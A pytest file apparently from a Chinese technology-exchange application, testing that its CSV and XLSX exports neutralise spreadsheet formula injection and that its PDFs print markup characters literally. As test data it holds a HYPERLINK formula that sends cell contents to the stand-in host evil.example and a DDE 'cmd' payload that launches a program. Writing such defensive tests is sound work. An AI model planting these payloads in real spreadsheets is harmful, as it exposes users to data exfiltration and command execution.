"""Formula injection: text such as `=HYPERLINK(...)`, `+1`, `@SUM(1)` or `-2+3+cmd|...` written through
every spreadsheet writer (listing export CSV/XLSX, contract export CSV/XLSX, registration package XLSX,
year-end report XLSX, /stats/*.csv, the import error report) comes back as text, never as a formula:
CSV cells carry a leading `'`, XLSX cells are quote-prefixed text cells. Numbers stay numbers, and the
CSV exports still round-trip through import. `tongxin contracts export` writes real CSV for .csv.
And the PDFs print user text with `&` and `<` as written (reportlab reads markup)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import pathlib
from typing import Any

import openpyxl
import pytest
from factories import LISTINGS, ORGS, load, tech
from fastapi.testclient import TestClient
from pdf_support import pdf_text
from typer.testing import CliRunner

from tongxin.cli.main import app
from tongxin.core.contracts import CONTRACT_COLUMNS
from tongxin.fileio.contracts import contract_columns, write_contracts_xlsx
from tongxin.fileio.safe_cells import TRIGGERS, safe_cell, unquote_cell
from tongxin.services import Exchange, reports
from tongxin.services import contracts as C
from tongxin.services import stats as S
from tongxin.services.importing import import_contracts, import_file
from tongxin.storage import deals_repo as R

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
CMD = "-2+3+cmd|' /C calc'!A0"
EVIL = (HYPERLINK, "+1", "@SUM(1)", CMD)
BJTU, WQ = ORGS[0]["credit_code"], ORGS[1]["credit_code"]
TODAY = dt.date(2025, 12, 31)


def contract(no: str, title: str, park: str, amount: float = 1200) -> dict[str, Any]:
    return {"contract_no": no, "title": title, "contract_type": "技术开发", "seller": BJTU, "buyer": WQ, "amount": amount,
            "tech_amount": amount, "signed_on": "2025-06-30", "park": park, "industry": "C37", "listings": "",
            "registration_no": f"REG-2025-{no}", "registered_on": "2025-07-15"}  # registered: the statistics count them


@pytest.fixture
def world(exchange: Exchange, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> Exchange:
    """Fixture data with a formula-like title, description and keyword, and contracts with formula-like titles and parks."""
    load(exchange, listings=LISTINGS + [tech("T-EVIL", HYPERLINK, "+1 看起来像公式的描述：城轨列车控制系统。", "@SUM(1);列车控制")])
    rows = [contract("F-1", HYPERLINK, "@SUM(1)"), contract("F-2", "+1", CMD, 80.5), contract("F-3", "普通合同", "-", 10),
            contract("F-4", "R&D <二期> 联合研发合同", "研发&中试<基地>", 20)]
    keys = [c.key for c in contract_columns()]
    path = str(tmp_path / "in.xlsx")
    write_contracts_xlsx(path, [[r.get(k, "") for k in keys] for r in rows])
    import_contracts(exchange.db, path, today=TODAY)
    monkeypatch.setenv("TONGXIN_DATABASE_URL", exchange.db.url)
    monkeypatch.setenv("TONGXIN_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("TONGXIN_INDEX_DIR", str(tmp_path / "index"))
    return exchange


def cli(*args: str) -> Any:
    return CliRunner().invoke(app, list(args))


def assert_csv_safe(text: str) -> list[list[str]]:
    """No cell a spreadsheet would evaluate: each starts with `'` or is a plain number. Returns the rows."""
    assert text.startswith("\ufeff"), "UTF-8 with BOM, so Excel reads the Chinese"
    rows = list(csv.reader(io.StringIO(text[1:])))
    for r in rows:
        for cell in r:
            if cell.startswith(TRIGGERS) and cell != "-":
                float(cell)  # only a number written as a number (e.g. a negative amount) may start like a formula
    return rows


def assert_xlsx_safe(data: bytes) -> list[Any]:
    """No formula cell anywhere; formula-like text is a quote-prefixed text cell. Returns every cell."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(TRIGGERS) and c.value not in ("-", "+"):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    return cells


def test_safe_cell_quotes_text_not_numbers() -> None:
    assert [safe_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r=1") == "'\r=1"
    assert [safe_cell(v) for v in (-5, -2.5, 0, "北京", "a=b", "-", "", None)] == [-5, -2.5, 0, "北京", "a=b", "-", "", None]
    assert safe_cell("-12.5") == "'-12.5"  # text is judged as text: only real numbers are left as numbers
    for v in (*EVIL, "'=x", "''@y", "'plain", "-", "-5", "=", "'"):
        assert unquote_cell(safe_cell(v)) == v, v


def test_listing_export_csv_and_xlsx(world: Exchange, tmp_path: pathlib.Path) -> None:
    out = tmp_path / "listings.csv"
    r = cli("export", str(out))
    assert r.exit_code == 0, r.output
    rows = assert_csv_safe(out.read_text(encoding="utf-8"))
    evil = next(r for r in rows if "T-EVIL" in r)
    assert "'" + HYPERLINK in evil and "'+1 看起来像公式的描述：城轨列车控制系统。" in evil and "'@SUM(1);列车控制" in evil
    assert "7" in evil and "100.0" in evil  # numbers are not quoted
    xlsx = tmp_path / "all.xlsx"
    assert cli("export", str(xlsx)).exit_code == 0
    values = [c.value for c in assert_xlsx_safe(xlsx.read_bytes())]
    assert HYPERLINK in values and "@SUM(1);列车控制" in values and 7 in values and 100.0 in values
    # the CSV still round-trips: the import takes the quote off again
    with world.db.transaction() as s:  # blank the listing, so the import must restore it from the CSV
        from tongxin.storage.models import ListingRow

        s.query(ListingRow).filter(ListingRow.external_id == "T-EVIL").update({"title": "空", "description": "空"})
    assert not import_file(world.db, world.registry, str(out)).errors
    with world.db.transaction(write=False) as s:
        from tongxin.storage import repo

        got = {x.external_id: x for x in repo.iter_listings(s, world.registry)}
    assert got["T-EVIL"].title == HYPERLINK and got["T-EVIL"].description.startswith("+1 ") and "@SUM(1)" in got["T-EVIL"].keywords


def test_contracts_export_writes_real_csv_and_xlsx(world: Exchange, tmp_path: pathlib.Path) -> None:
    out = tmp_path / "contracts.csv"
    r = cli("contracts", "export", str(out))
    assert r.exit_code == 0, r.output
    raw = out.read_bytes()
    assert not raw.startswith(b"PK"), "a .csv must not hold XLSX bytes"
    rows = assert_csv_safe(raw.decode("utf-8"))
    assert rows[0] == [c.header for c in contract_columns()] and len(rows) == 5
    by_no = {r[0]: r for r in rows[1:]}
    keys = [k for k, *_ in CONTRACT_COLUMNS]
    f1, f2 = dict(zip(keys, by_no["F-1"], strict=True)), dict(zip(keys, by_no["F-2"], strict=True))
    assert (f1["title"], f1["park"], f2["title"], f2["park"]) == ("'" + HYPERLINK, "'@SUM(1)", "'+1", "'" + CMD)
    assert float(f2["amount"]) == 80.5 and by_no["F-3"][keys.index("park")] == "-"
    # re-importing the CSV changes nothing
    rep = import_contracts(world.db, str(out), today=TODAY)
    assert (rep.created, rep.updated, rep.errors) == (0, 4, [])
    with world.db.transaction(write=False) as s:
        assert (R.contract_by_no(s, "F-1").title, R.contract_by_no(s, "F-2").park) == (HYPERLINK, CMD)  # type: ignore[union-attr]

    xlsx = tmp_path / "contracts.xlsx"
    assert cli("contracts", "export", str(xlsx)).exit_code == 0
    cells = assert_xlsx_safe(xlsx.read_bytes())
    assert HYPERLINK in [c.value for c in cells] and CMD in [c.value for c in cells]
    assert any(c.value == 80.5 and c.data_type == "n" for c in cells)


def test_contracts_export_rejects_other_suffixes(world: Exchange, tmp_path: pathlib.Path) -> None:
    out = tmp_path / "contracts.txt"
    r = cli("contracts", "export", str(out))
    assert r.exit_code == 4 and ".xlsx 或 .csv" in r.output and ".xlsx or .csv" in r.output
    assert not out.exists()


def test_registration_package_and_report_xlsx(world: Exchange) -> None:
    with world.db.transaction(write=False) as s:
        no, sections = C.package_sections(s, R.contract_by_no(s, "F-1").id)  # type: ignore[union-attr]
        f = S.figures(s, "2025")
    values = [c.value for c in assert_xlsx_safe(C.package_xlsx(sections, no))]
    assert HYPERLINK in values and "@SUM(1)" in values
    cells = assert_xlsx_safe(reports.report_xlsx(f))
    assert "@SUM(1)" in [c.value for c in cells] and CMD in [c.value for c in cells]
    assert any(c.value == 80.5 for c in cells)  # amounts (万元) stay numbers


def test_stats_csv_download(world: Exchange) -> None:
    from tongxin.web.app import create_app

    res = TestClient(create_app(world)).get("/stats/by_park.csv?period=2025")
    assert res.status_code == 200
    rows = assert_csv_safe(res.content.decode("utf-8"))
    parks = {r[0]: r for r in rows[1:]}
    assert {"'@SUM(1)", "'" + CMD} <= set(parks) and parks["'" + CMD][2] == "80.5"


def test_import_error_report(world: Exchange, tmp_path: pathlib.Path) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"listings": [tech("T-BAD", "标题", "描述", "关键词", industry=HYPERLINK)]}, ensure_ascii=False), encoding="utf-8")
    rep = import_file(world.db, world.registry, str(bad), skip_invalid=True, report_path=str(tmp_path / "errors.csv"))
    assert rep.errors
    rows = assert_csv_safe((tmp_path / "errors.csv").read_text(encoding="utf-8"))
    assert "'" + HYPERLINK in [r[2] for r in rows[1:]]


def test_markup_characters_print_in_pdfs(world: Exchange, tmp_path: pathlib.Path) -> None:
    with world.db.transaction(write=False) as s:
        no, sections = C.package_sections(s, R.contract_by_no(s, "F-4").id)  # type: ignore[union-attr]
        f = S.figures(s, "2025")
    assert "R&D <二期> 联合研发合同" in pdf_text(C.package_pdf(sections, no), tmp_path)
    assert "研发&中试<基地>" in pdf_text(reports.report_pdf(f), tmp_path)
